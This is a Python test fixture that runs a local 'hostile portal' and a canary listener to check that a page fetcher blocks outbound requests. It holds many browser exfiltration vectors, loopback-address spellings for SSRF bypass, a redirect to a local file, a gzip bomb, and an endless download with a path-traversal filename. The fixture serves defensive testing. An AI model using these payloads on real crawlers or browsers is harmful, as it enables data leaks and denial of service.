"""A hostile portal, and a canary that nobody may reach, both on this machine."""

from __future__ import annotations

import gzip
import socket
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

PAYROLL = (
    "<h1>Folha de pagamento</h1><table><tr><th>Matrícula</th><th>Nome do servidor</th><th>Cargo</th><th>Remuneração</th></tr>"
    + "".join(f"<tr><td>10{n}</td><td>Servidor {n}</td><td>Agente</td><td>{n}.234,56</td></tr>" for n in range(1, 6))
    + "</table>"
)

SPELLINGS = (
    "0.0.0.0",  # noqa: S104 - to be refused
    "127.1", "2130706433", "0x7f000001", "017700000001", "0x7f.0.0.1", "0177.0.0.1", "127.0.0.2", "localhost",
    "sub.localhost", "LOCALHOST", "127.0.0.1.", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::]", "[0:0:0:0:0:ffff:7f00:0001]",
)  # fmt: skip
"""Hosts that are this very machine."""


def vectors(canary: str) -> tuple[str, list[str]]:
    """A page that tries every way out that a page has, and the names of the ways; ``canary``: ``host:port``."""
    to = f"http://{canary}/v"
    tags = {
        "img": f"<img src='{to}/img'>",
        "srcset": f"<img srcset='{to}/srcset 1x'>",
        "script": f"<script src='{to}/script'></script>",
        "module": f"<script type=module src='{to}/module'></script>",
        "iframe": f"<iframe src='{to}/iframe'></iframe>",
        "srcdoc": f"<iframe srcdoc=\"<img src='{to}/srcdoc'>\"></iframe>",
        "refresh": f"<iframe srcdoc=\"<meta http-equiv=refresh content='0;url={to}/refresh'>\"></iframe>",
        "stylesheet": f"<link rel=stylesheet href='{to}/stylesheet'>",
        "css": f"<div style='background:url({to}/css)'>.</div>",
        "import": f"<style>@import url({to}/import);</style>",
        "font": f"<style>@font-face{{font-family:x;src:url({to}/font)}} p{{font-family:x}}</style><p>texto</p>",
        "preload": f"<link rel=preload as=image href='{to}/preload'>",
        "prefetch": f"<link rel=prefetch href='{to}/prefetch'>",
        "modulepreload": f"<link rel=modulepreload href='{to}/modulepreload'>",
        "object": f"<object data='{to}/object'></object>",
        "embed": f"<embed src='{to}/embed'>",
        "video": f"<video src='{to}/video' autoplay muted></video>",
        "audio": f"<audio src='{to}/audio' preload=auto></audio>",
        "poster": f"<video poster='{to}/poster'></video>",
        "svg": f"<svg><image href='{to}/svg'/></svg>",
        "input": f"<input type=image src='{to}/input'>",
        "redirect": "<img src='/go/redirect'>",
        "framed": "<iframe src='/go/framed'></iframe>",
        "post": f"<iframe name=sink></iframe><form id=f method=post target=sink action='{to}/post'><input name=a value=b></form>",
    }
    scripts = {
        "fetch": f"fetch('{to}/fetch').catch(()=>0)",
        "no-cors": f"fetch('{to}/no-cors',{{mode:'no-cors',method:'POST',body:'x'}}).catch(()=>0)",
        "xhr": f"(()=>{{const x=new XMLHttpRequest();x.open('GET','{to}/xhr');x.send()}})()",
        "beacon": f"navigator.sendBeacon('{to}/beacon','x')",
        "event-source": f"new EventSource('{to}/event-source')",
        "websocket": f"new WebSocket('ws://{canary}/v/websocket')",
        "worker": f"new Worker(URL.createObjectURL(new Blob([\"try{{importScripts('{to}/worker')}}catch(e){{}}\"])))",
        "worker-fetch": f"new Worker(URL.createObjectURL(new Blob([\"fetch('{to}/worker-fetch').catch(()=>0)\"])))",
        "popup": f"window.open('{to}/popup')",
        "keepalive": f"fetch('{to}/keepalive',{{keepalive:true,mode:'no-cors'}}).catch(()=>0)",
        "form": "document.getElementById('f').submit()",
        "webrtc": f"new RTCPeerConnection({{iceServers:[{{urls:['stun:{canary}','turn:{canary}?transport=tcp'],username:'a',credential:'b'}}]}})"
        ".createDataChannel('x')",
        "service-worker": "navigator.serviceWorker&&navigator.serviceWorker.register('/sw.js').catch(()=>0)",
    }
    hosts = "".join(f"<img src='http://{host}:{canary.rpartition(':')[2]}/h/{n}'>" for n, host in enumerate(SPELLINGS))
    run = "".join(f"try{{{code}}}catch(e){{}};" for code in scripts.values())
    page = f"{''.join(tags.values())}{hosts}<script>{run}</script>"
    silent = {"form", "service-worker", "webrtc"}  # seen by another name, or not on TCP
    return page, [name for name in (*tags, *scripts) if name not in silent]


class Canary:
    """Counts who comes; answers nothing to know but that it was found."""

    def __init__(self) -> None:
        self.accepted = 0
        self.paths: list[str] = []
        canary = self

        class Handler(BaseHTTPRequestHandler):
            def setup(self) -> None:
                canary.accepted += 1
                super().setup()

            def do_GET(self) -> None:
                canary.paths.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", "0")
                self.send_header("Access-Control-Allow-Origin", "*")
                self.end_headers()

            def do_POST(self) -> None:
                self.do_GET()

            def do_HEAD(self) -> None:
                self.do_GET()

            def do_OPTIONS(self) -> None:
                self.do_GET()

            def log_message(self, *_: object) -> None:
                return

        self.server = ThreadingHTTPServer(("0.0.0.0", 0), Handler)  # noqa: S104 - whatever this machine is called by
        self.port = self.server.server_port
        self.udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.udp.bind(("0.0.0.0", self.port))  # noqa: S104
        self.udp.setblocking(False)

    def datagrams(self) -> int:
        """How many have come and were not counted yet."""
        count = 0
        while True:
            try:
                self.udp.recv(2048)
            except BlockingIOError:
                return count
            count += 1


@contextmanager
def canary() -> Iterator[Canary]:
    """A listener on a free port, until the block ends."""
    bird = Canary()
    threading.Thread(target=bird.server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield bird
    finally:
        bird.server.shutdown()
        bird.server.server_close()
        bird.udp.close()


@contextmanager
def portal(pages: dict[str, str], to: str = "", secret: Path | None = None) -> Iterator[tuple[str, list[str]]]:
    """A server of these pages (path → HTML): its address, and the paths that were asked for. ``/go/x`` leads to the canary,
    ``/ler.pdf`` to a file of this machine, ``/bomba.pdf`` is small and grows, ``/nunca.exe`` never ends."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        protocol_version = "HTTP/1.1"

        def answer(self, status: int, body: bytes, **headers: str) -> None:
            self.send_response(status)
            for name, value in {"Content-Type": "text/html; charset=utf-8", **headers}.items():
                self.send_header(name.replace("_", "-"), value)
            self.send_header("Content-Length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def do_GET(self) -> None:
            asked.append(self.path)
            if self.path in pages:
                self.answer(200, pages[self.path].encode())
            elif self.path.startswith("/go/"):
                self.answer(302, b"", Location=f"http://{to}/v/{self.path[4:]}")
            elif self.path == "/ler.pdf" and secret is not None:
                self.answer(302, b"", Location=secret.as_uri())
            elif self.path == "/bomba.pdf":
                body = gzip.compress(bytes(60_000_000), 1)
                self.answer(200, body, Content_Type="application/pdf", Content_Encoding="gzip")
            elif self.path == "/robots.txt":
                self.answer(200, f"User-agent: *\nAllow: /\nSitemap: http://{to}/v/sitemap\n".encode())
            elif self.path == "/nunca.exe":
                self.send_response(200)
                self.send_header("Content-Type", "application/octet-stream")
                self.send_header("Content-Disposition", 'attachment; filename="../../x.exe"')
                self.end_headers()
                try:
                    while True:
                        self.wfile.write(bytes(65_536))
                except OSError:
                    self.close_connection = True
            else:
                self.answer(404, b"")

        def do_POST(self) -> None:
            self.do_GET()

        def log_message(self, *_: object) -> None:
            return

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    threading.Thread(target=server.serve_forever, args=(0.02,), daemon=True).start()
    try:
        yield f"http://127.0.0.1:{server.server_port}", asked
    finally:
        server.shutdown()
        server.server_close()
